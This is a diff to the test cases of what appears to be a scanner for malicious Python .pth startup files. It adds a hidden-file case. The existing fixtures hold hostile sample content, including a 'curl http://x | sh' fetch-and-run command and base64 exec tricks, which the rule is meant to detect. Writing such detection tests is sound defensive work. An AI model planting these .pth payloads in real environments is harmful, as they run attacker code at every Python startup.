@@ -46,6 +46,7 @@ def nspkg(*parts: str, has_mfs: bool = True) -> str:
 PTH_CASES: list[tuple[str, str, str | None]] = [
     # (file name, content, expected rule or None)
     ("evil.pth", "import os; os.system('curl http://x | sh')\n", "WC-PTH-EXEC"),
+    (".hidden.pth", "import os; os.getpid()\n", "WC-PTH-EXEC"),  # run by Python < 3.13
     ("tabbed.pth", "import\tbase64;exec(base64.b64decode('cHJpbnQoMSk='))\n", "WC-PTH-EXEC"),
     ("hidden.pth", "some/dir\rimport os; os.getpid()\n", "WC-PTH-EXEC"),  # \r ends a line
     ("not-exec.pth", "importos\n#import os\n   \n", None),  # site.py runs neither
